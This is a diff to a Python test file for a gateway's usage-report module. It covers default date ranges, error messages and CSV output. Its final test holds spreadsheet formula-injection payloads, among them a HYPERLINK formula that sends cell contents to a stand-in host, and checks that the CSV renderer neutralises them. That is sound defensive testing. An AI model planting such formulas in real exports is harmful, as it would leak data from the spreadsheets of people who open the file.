@@ -6,9 +6,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+from datetime import date
 
 import pytest
 
+from serving.gateway.usage_ledger import report as report_module
 from serving.gateway.usage_ledger.report import (
     MAX_DAYS,
     ReportQuery,
@@ -35,16 +37,32 @@ def test_the_query_is_two_utc_days_and_maybe_a_key() -> None:
     assert report_query("2026-03-01", "2026-03-01", "dev-2").key_id == "dev-2"
 
 
+def test_without_days_the_query_is_the_current_utc_month_so_far(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(report_module, "utc_today", lambda: date(2026, 3, 17))
+    assert report_query(None, None, None) == ReportQuery("2026-03-01", "2026-03-17")
+    assert report_query("2026-01-15", None, None) == ReportQuery("2026-01-15", "2026-03-17")
+    # `to` alone: its own month up to that day, not this month (which it may be before).
+    assert report_query(None, "2026-02-10", None) == ReportQuery("2026-02-01", "2026-02-10")
+    assert report_query(None, "2026-03-01", "dev") == ReportQuery("2026-03-01", "2026-03-01", "dev")
+    with pytest.raises(ReportQueryError) as raised:
+        report_query("2026-03-18", None, None)  # `to` defaulted: the fault is `from`'s
+    assert raised.value.param == "from"
+    assert str(raised.value) == "2026-03-18 is after today (2026-03-17)"
+
+
 @pytest.mark.parametrize(
     ("first", "last", "key", "param", "message"),
     [
-        (None, "2026-03-01", None, "from", "is required (a UTC day, YYYY-MM-DD)"),
-        ("", "2026-03-01", None, "from", "is required"),
+        ("", "2026-03-01", None, "from", "'' is not a day (YYYY-MM-DD)"),
+        ("2026-03-01", "", None, "to", "'' is not a day (YYYY-MM-DD)"),
         ("2026-3-1", "2026-03-01", None, "from", "'2026-3-1' is not a day (YYYY-MM-DD)"),
         ("2026-03-01", "2026-02-30", None, "to", "'2026-02-30' is not a day"),
         ("2026-03-01", "yesterday", None, "to", "'yesterday' is not a day"),
         ("2026-03-02", "2026-03-01", None, "to", "2026-03-01 is before the first day"),
         ("2000-01-01", "2026-03-01", None, "to", f"at most {MAX_DAYS} days"),
+        ("2000-01-01", None, None, "from", f"at most {MAX_DAYS} days"),
         ("2026-03-01", "2026-03-01", "team-a", "key", "is not a key id"),
     ],
 )
@@ -114,12 +132,12 @@ def test_names_are_looked_up_once_per_key() -> None:
 
 def test_csv_is_the_rows_with_a_header() -> None:
     text = render(build_report(QUERY, ROWS, NAMES.get), "csv")
-    assert text.splitlines() == [
-        "day,key_id,key_name,model,prompt_tokens,completion_tokens,total_tokens",
-        "2026-03-01,dev,,qwen3-tiny,3,1,4",
-        "2026-03-01,key_5e01c9a7,team-a,qwen3-tiny,7,2,9",
-        "2026-03-01,key_5e01c9a7,team-a,team-a-lora,20,8,28",
-        "2026-03-02,key_5e01c9a7,team-a,qwen3-tiny,100,40,140",
+    assert text.splitlines() == [  # text quoted, numbers bare
+        '"day","key_id","key_name","model","prompt_tokens","completion_tokens","total_tokens"',
+        '"2026-03-01","dev","","qwen3-tiny",3,1,4',
+        '"2026-03-01","key_5e01c9a7","team-a","qwen3-tiny",7,2,9',
+        '"2026-03-01","key_5e01c9a7","team-a","team-a-lora",20,8,28',
+        '"2026-03-02","key_5e01c9a7","team-a","qwen3-tiny",100,40,140',
     ]
     assert len(list(csv.DictReader(io.StringIO(text)))) == 4
 
@@ -145,3 +163,36 @@ def test_the_table_has_the_rows_then_totals_per_key_and_in_all() -> None:
     assert render(empty, "csv").count("\n") == 1
     with pytest.raises(ValueError, match="not a report format"):
         render(empty, "xml")
+
+
+# OWASP's formula triggers, each leading one text cell of its own.
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"t")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula() -> None:
+    """Every text cell (key id, name, model) that a spreadsheet would read as a formula gets
+    a leading `'`, every text cell is quoted (a `;` or CR inside starts no cell), and the
+    token counts stay bare numbers, a negative one included."""
+    rows = [UsageRow("2026-03-01", f"key_{n:08x}", "qwen3-tiny", n, 1) for n in range(6)]
+    rows += [
+        UsageRow("2026-03-02", "=1+1", "-lora", -5, 2),  # ids and models a store might hold
+        UsageRow("2026-03-02", "key_0000000a", "x\r=1+1", 3, -4),
+        UsageRow("2026-03-02", "key_0000000b", "@model", 1, 1),
+    ]
+    names = {f"key_{n:08x}": formula for n, formula in enumerate(FORMULAS)}
+    names["key_0000000a"] = "team;=1+1"
+    text = render(build_report(QUERY, rows, names.get), "csv")
+    cells = list(csv.reader(io.StringIO(text)))[1:]
+    assert [row[2] for row in cells[:6]] == [f"'{formula}" for formula in FORMULAS]
+    lines = text.splitlines()
+    assert lines[1] == '"2026-03-01","key_00000000","\'=HYPERLINK(""http://x/?""&A1,""t"")",' + (
+        '"qwen3-tiny",0,1,1'
+    )
+    assert cells[6] == ["2026-03-02", "'=1+1", "", "'-lora", "-5", "2", "-3"]
+    assert cells[7] == ["2026-03-02", "key_0000000a", "team;=1+1", "x\r=1+1", "3", "-4", "-1"]
+    assert '"team;=1+1","x\r=1+1",3,-4,-1' in text
+    assert cells[8] == ["2026-03-02", "key_0000000b", "", "'@model", "1", "1", "2"]
+    # Only the CSV: the JSON stays the data as recorded, the table what a terminal shows.
+    document = build_report(QUERY, rows, names.get)
+    assert json.loads(render(document, "json"))["rows"][0]["key_name"] == FORMULAS[0]
+    assert f" {FORMULAS[0]} " in render(document, "table")
